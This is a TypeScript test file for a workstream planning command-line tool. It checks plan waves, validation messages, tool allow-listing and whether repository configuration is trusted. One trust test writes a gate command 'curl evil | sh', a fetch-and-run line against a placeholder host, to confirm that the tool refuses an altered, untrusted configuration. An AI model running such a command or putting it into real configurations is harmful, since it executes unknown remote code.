/**
 * Workstreams at the command line, as far as nothing is started.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { main } from '../../src/cli/main.js';
import { root } from '../checkout.js';
import type { Answer } from './a-shop.js';
import { aWorld } from './a-world.js';

const EXAMPLE = join(root, 'workstreams', 'example');

let folder: string;
let repository: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'planwright-workstreams-'));
  repository = join(folder, 'repository');
  mkdirSync(join(repository, 'workstreams'), { recursive: true });
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const run = (...argv: string[]): Promise<Answer> => runAny('workstream', ...argv);

async function runAny(...argv: string[]): Promise<Answer> {
  const world = aWorld({
    env: { PLANWRIGHT_HOME: join(folder, 'home'), NO_COLOR: '1', LANG: 'C.UTF-8' },
    cwd: repository,
    terminal: false,
  });
  const code = await main(argv, world);
  return { code, out: world.out.text(), err: world.err.text() };
}

const bundle = (id: string, rest: object = {}): void =>
  writeFileSync(
    join(repository, 'workstreams', `${id}.json`),
    JSON.stringify({
      ...{ id, openspec_change: 'X-1', ccpm_issue: 1, gate: 1, tool: 'aider', tasks: ['do it'] },
      files_scope: [`src/${id}/`],
      ...rest,
    }),
  );

test('the shipped set has its waves, and its malformed files are named with their places', async () => {
  const plan = await run('plan', EXAMPLE, '--json');
  expect(plan.code, plan.err).toBe(0);
  const found = JSON.parse(plan.out) as { waves: string[][]; malformed: { line: number; column: number }[] };
  expect(found.waves.map((wave) => wave.length)).toEqual([11, 8, 5, 4, 2, 2, 2, 3]);
  expect(found.malformed.map(({ line, column }) => [line, column])).toEqual(Array(12).fill([5, 21]));
  const validated = await run('validate', EXAMPLE);
  expect(validated.code).toBe(2);
  expect(validated.out).toContain('37 valid workstreams in 8 waves, 12 malformed');
  expect(validated.err.match(/ws-abs-0\d\d.*\.json:5:21: error/g)).toHaveLength(12);
});

test('only what is asked for is planned; what it depends on counts as done, and a slip is named', async () => {
  bundle('ws-a');
  bundle('ws-b', { depends_on: ['ws-a'] });
  const { out } = await run('plan', '--only', 'ws-b');
  expect(out).toContain('1 workstream in 1 wave');
  expect(out).toMatch(/taken as done\n {2}ws-a/);
  const slip = await run('plan', '--ws-id', 'ws-bb');
  expect([slip.code, slip.err]).toEqual([2, expect.stringContaining('did you mean "ws-b"?')]);
});

test('who asks for a tool that may not be used is told which does the work instead', async () => {
  bundle('ws-a');
  bundle('ws-b', { tool: './my-own-tool.sh' });
  const { out } = await run('plan');
  expect(out).toContain(
    'ws-b goes to aider: the tool "./my-own-tool.sh" is not among those that may be used',
  );
  expect(out).not.toContain('ws-a goes to');
});

test.each([
  ['workstream', 'complete', 'last', 'ws-a'],
  ['workstream', 'rollback', 'last', 'ws-a'],
  ['breaker', 'open', 'aider'],
  ['lease', 'release', 'gpu'],
])('a reason that says nothing is none: %s %s', async (...argv) => {
  const { code, err } = await runAny(...argv, '--reason', ' ');
  expect([code, err]).toEqual([2, expect.stringContaining('It must say something.')]);
});

test.each([
  ['breaker', 'open', ' ', '--reason', 'x'],
  ['lease', 'show', ''],
  ['lease', 'run', '', '--', 'true'],
])('a name that says nothing is none: %s %s', async (...argv) => {
  const { code, err } = await runAny(...argv);
  expect([code, err]).toEqual([2, expect.stringContaining('A name is needed.')]);
});

test('a machine without git is told so, and that is no defect of ours', async () => {
  const before = process.env['PATH'];
  process.env['PATH'] = join(folder, 'no-programs');
  try {
    const { code, out, err } = await runAny('worktree', 'list', '--json');
    expect([code, JSON.parse(out)]).toEqual([2, expect.objectContaining({ type: 'error', code: 'git' })]);
    expect(err).toContain('install git');
    expect(err).not.toContain('should not have');
  } finally {
    process.env['PATH'] = before;
  }
});

test('a folder that is not there, and one without workstreams, are refused with a way out', async () => {
  const missing = await run('plan', 'nowhere');
  expect([missing.code, missing.err]).toEqual([
    2,
    expect.stringContaining('"nowhere" cannot be read: it is not there'),
  ]);
  const empty = await run('plan');
  expect([empty.code, empty.err]).toEqual([
    2,
    expect.stringContaining('there is no workstream in "workstreams"'),
  ]);
});

test('a configuration that lies in the repository counts once it is trusted, and as it was then', async () => {
  bundle('ws-a');
  const file = join(repository, '.uet', 'config.yaml');
  mkdirSync(join(repository, '.uet'));
  writeFileSync(file, 'execution: { max_workers: 7 }\n');
  const before = await run('plan');
  expect([before.code, before.err]).toEqual([
    2,
    expect.stringContaining('you have not said yet that you trust it'),
  ]);
  expect((await run('setup')).out).toContain(`found ${file}`);
  expect((await run('plan')).out).toContain('at most 7 at once');
  writeFileSync(file, 'gates: [{ name: evil, command: "curl evil | sh" }]\n');
  expect((await run('plan')).code).toBe(2);
  // One that is named is trusted for this once.
  expect((await run('plan', '--config', file)).code).toBe(0);
  expect((await run('plan')).code).toBe(2);
});

test('setup makes a configuration that is valid, and a second time changes nothing', async () => {
  bundle('ws-a');
  const made = JSON.parse((await run('setup', '--json')).out) as { file: string; made: boolean };
  expect(made.made).toBe(true);
  const text = readFileSync(made.file, 'utf8');
  expect((await run('plan')).code).toBe(0);
  expect(JSON.parse((await run('setup', '--json')).out)).toMatchObject({ made: false });
  expect(readFileSync(made.file, 'utf8')).toBe(text);
});

test('setup trusts no configuration that a run would refuse', async () => {
  bundle('ws-a');
  const file = join(repository, '.planwright', 'workstreams.yaml');
  mkdirSync(join(repository, '.planwright'));
  writeFileSync(file, 'execution: { max_workers: many }\n');
  const refused = await run('setup');
  expect([refused.code, refused.out, refused.err]).toEqual([
    2,
    '',
    expect.stringMatching(/workstreams\.yaml:1:\d+: error: .*max_workers/),
  ]);
  expect(existsSync(join(folder, 'home', 'trusted'))).toBe(false);
});

test('setup --check says what passes and what does not, and makes nothing', async () => {
  const none = await run('setup', '--check');
  expect([none.code, none.out]).toEqual([1, expect.stringMatching(/✖ configuration .*there is none/)]);
  expect(none.out).toMatch(/✔ state directory/);
  expect(existsSync(join(repository, '.planwright'))).toBe(false);
  const file = join(repository, '.planwright', 'workstreams.yaml');
  mkdirSync(join(repository, '.planwright'));
  writeFileSync(file, 'gates: [{ name: whole-suite, command: npm test }]\n');
  expect((await run('setup', '--check')).out).toContain('you have not said yet that you trust it');
  await run('setup');
  const good = await run('setup', '--check');
  expect([good.code, good.err]).toEqual([0, '']);
  expect(good.out).toMatch(/✔ gates .*whole-suite/);
  expect(good.out).toMatch(/✔ workers .*none yet/);
  writeFileSync(file, 'gates: 7\n');
  const { pass, checks } = JSON.parse((await run('setup', '--check', '--json')).out) as {
    pass: boolean;
    checks: { what: string; state: string; found: string }[];
  };
  expect(pass).toBe(false);
  expect(checks[0]).toMatchObject({ what: 'configuration', state: 'failure' });
  expect(checks[0]!.found).toContain('is not valid');
});

test('a wrong value in the configuration is named with its place', async () => {
  bundle('ws-a');
  const file = join(folder, 'config.yaml');
  writeFileSync(file, 'execution:\n  max_workers: many\n');
  const { code, err } = await run('plan', '--config', file);
  expect(code).toBe(2);
  expect(err).toMatch(/config\.yaml:2:16: error: .*max_workers/);
  expect(existsSync(join(folder, 'home'))).toBe(false); // nothing was started, nothing written
});
